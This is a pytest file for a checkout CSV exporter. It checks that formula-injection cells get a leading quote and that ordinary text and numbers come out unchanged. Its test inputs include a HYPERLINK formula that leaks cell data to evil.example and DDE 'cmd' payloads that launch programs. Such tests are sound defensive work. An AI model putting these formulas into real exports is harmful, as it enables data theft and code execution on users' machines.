"""CSV that no spreadsheet computes, made in pieces."""

import csv
from decimal import Decimal
from io import StringIO

import pytest

from checkout.sheets import csv_of, text_of


def _read(pieces):
    return list(csv.reader(StringIO("".join(pieces), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+919999999999",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
        '=1+1";=2+2',
    ],
)
def test_what_would_be_computed_is_text(cell):
    assert text_of(cell) == f"'{cell}"
    assert _read(csv_of(["name", "next"], [[[cell, "x"]]]))[1:] == [[f"'{cell}", "x"]]


@pytest.mark.parametrize("cell", ["", "order_1", "2026-11-22T21:33:09+05:30", 'Asha, "Rao"\nB', "1-2", "आशा"])
def test_other_text_is_as_it_was(cell):
    assert text_of(cell) == cell
    assert _read(csv_of(["name", "next"], [[[cell, "x"]]]))[1:] == [[cell, "x"]]


@pytest.mark.parametrize(
    ("cell", "text"),
    [(Decimal("-100.00"), "-100.00"), (Decimal("0E+3"), "0"), (Decimal("0.00"), "0.00"), (Decimal(7), "7")],
)
def test_numbers_of_ours_stay_numbers(cell, text):
    assert text_of(cell) == text


def test_one_header_row_even_without_rows():
    assert _read(csv_of(["a", "b"], [])) == [["a", "b"]]
    assert _read(csv_of(["a", "b"], [[], [["1", "2"]], []])) == [["a", "b"], ["1", "2"]]


def test_no_more_than_a_chunk_is_read_before_it_is_given():
    read = []

    def chunks():
        for number in range(3):
            read.append(number)
            yield [[str(number)]]

    pieces = csv_of(["n"], chunks())
    assert next(pieces) == "n\r\n0\r\n"
    assert read == [0]
    assert "".join(pieces) == "1\r\n2\r\n"
